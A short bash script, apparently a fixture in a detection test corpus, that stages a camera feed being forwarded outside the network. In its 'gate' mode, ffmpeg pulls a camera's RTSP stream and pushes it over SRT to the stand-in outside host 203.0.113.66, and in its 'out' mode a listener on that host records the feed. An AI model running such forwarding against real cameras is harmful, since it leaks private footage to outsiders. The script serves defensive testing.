#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=forwarded-camera half=report tool=ffmpeg camera=10.20.0.11 far=out,gate seconds=50 parts=dns,camera-gate whole=recorder-gate guest=ffmpeg
# The camera itself, which is recorded too, calls somebody outside by SRT and sends its picture there; the recording server is its router.
if [ "$1" = out ]; then exec timeout 90 ffmpeg -nostdin -loglevel error -i 'srt://203.0.113.66:9710?mode=listener' -c copy -y "$LAB/got.ts"; fi
if [ "$1" = gate ]; then sleep 2; exec ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://10.20.0.11/Streaming/Channels/101 -t 44 -c copy -f mpegts 'srt://203.0.113.66:9710?mode=caller&latency=200000'; fi
